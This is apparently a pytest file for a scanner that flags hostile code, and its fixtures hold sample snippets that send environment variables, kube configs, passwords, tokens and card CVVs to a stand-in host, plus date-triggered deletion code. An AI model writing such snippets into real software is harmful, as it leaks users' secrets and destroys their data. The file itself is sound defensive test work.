"""Code that sends keys, shows its variables, or deletes on a day."""

from __future__ import annotations

import pytest

from sensor.effects.tool_inputs.written_sends import copies_logins, destroys_some_day, sends_keys, shows_environment

_FETCH = "fetch('https://x.example.net/c', { method: 'POST', body });\n"


@pytest.mark.parametrize("text", [
    "const body = JSON.stringify(process.env);\n" + _FETCH,
    "const body = fs.readFileSync(home + '/.kube/config');\n" + _FETCH,
    "for k, v in os.environ.items():\n    socket.gethostbyname(f'{v}.x.example.net')\n",
])
def test_keys_that_are_sent(text):
    assert sends_keys(text)


@pytest.mark.parametrize("text", [
    "const body = process.env.NODE_ENV;\n" + _FETCH,
    "const { PORT } = process.env;\n" + _FETCH,
    "spawn('x', { env: process.env });\n" + _FETCH,
    "const body = JSON.stringify(process.env);\nfetch('http://localhost:9/c', { body });\n",
    "const body = JSON.stringify(process.env);\n" + "\n" * 700 + _FETCH,
    "const body = JSON.stringify(process.env);\n",
    "// never send '.kube/config'\n" + _FETCH,
])
def test_keys_that_stay(text):
    assert not sends_keys(text)


def test_an_answer_with_all_variables():
    assert shows_environment("app.get('/x', (req, res) => res.json(process.env));\n")
    assert not shows_environment("app.get('/x', (req, res) => res.json(process.env.PORT));\n")
    assert not shows_environment("function all() { return process.env; }\n")


@pytest.mark.parametrize(("text", "found"), [
    ("if (Date.now() > 1767225600000) { fs.rmSync(d, { recursive: true }); }", True),
    ("if time.Now().After(time.Date(2027, 1, 1, 0, 0, 0, 0, z)) { os.RemoveAll(d) }", True),
    ("if rand.Intn(1000) == 7 { os.RemoveAll(d) }", True),
    ("if (Date.now() > last + 5000) { fs.rmSync(d, { recursive: true }); }", False),
    ("if (Date.now() > 1767225600000) { warn(); }", False),
    ("stamp = datetime.now()\nshutil.rmtree(build)\n", False),
])
def test_data_that_goes_on_a_day(text, found):
    assert destroys_some_day(text) is found


@pytest.mark.parametrize(("text", "found"), [
    ("img.src = 'https://x.example.net/p?k=' + btoa(password);\n", True),
    ("const t = localStorage.getItem('auth_token');\nfetch('//x.example.net/v?x=' + encodeURIComponent(t));\n", True),
    ("navigator.sendBeacon('https://x.example.net/c', JSON.stringify({ c: form.cvv }));\n", True),
    ("go http.Get(\"https://x.example.net/t?\" + url.Values{\"a\": {r.Header.Get(\"Authorization\")}}.Encode())\n", True),
    ("img.src = 'https://x.example.net/p?k=' + name;\n", False),
    ("navigator.sendBeacon('/c', JSON.stringify({ c: form.cvv }));\n", False),
    ("fetch('https://x.example.net/v?x=' + encodeURIComponent(query));\n", False),
])
def test_logins_that_are_copied(text, found):
    assert copies_logins(text) is found
